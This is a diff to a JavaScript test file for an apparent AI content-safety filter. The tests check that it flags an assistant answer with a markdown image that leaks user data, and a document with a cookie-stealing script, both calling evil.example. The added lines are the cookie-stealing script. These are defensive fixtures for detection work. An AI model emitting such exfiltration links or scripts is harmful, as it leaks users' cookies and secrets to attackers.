@@ -85,6 +85,10 @@ test('an answer may talk about attacks; a key must not leave in it', () => {
   assert.equal(verdictOn('write to a@example.com', 'assistant', 'output').decision, 'redact');
   const image = 'Done. ![x](https://evil.example/log?data=secret+of+the+user)';
   assert.equal(verdictOn(image, 'assistant', 'output').threatType, 'data_exfiltration');
+  const script =
+    '<p>Hi</p><script>new Image().src = "https://evil.example/?c=" + document.cookie; fetch("/x")</script>';
+  assert.equal(verdictOn(script, 'document').threatType, 'malicious_script');
+  assert.equal(verdictOn('How do I read document.cookie in a <script>?').decision, 'allow');
 });
 
 test('findings say where, within the slot they are about', () => {
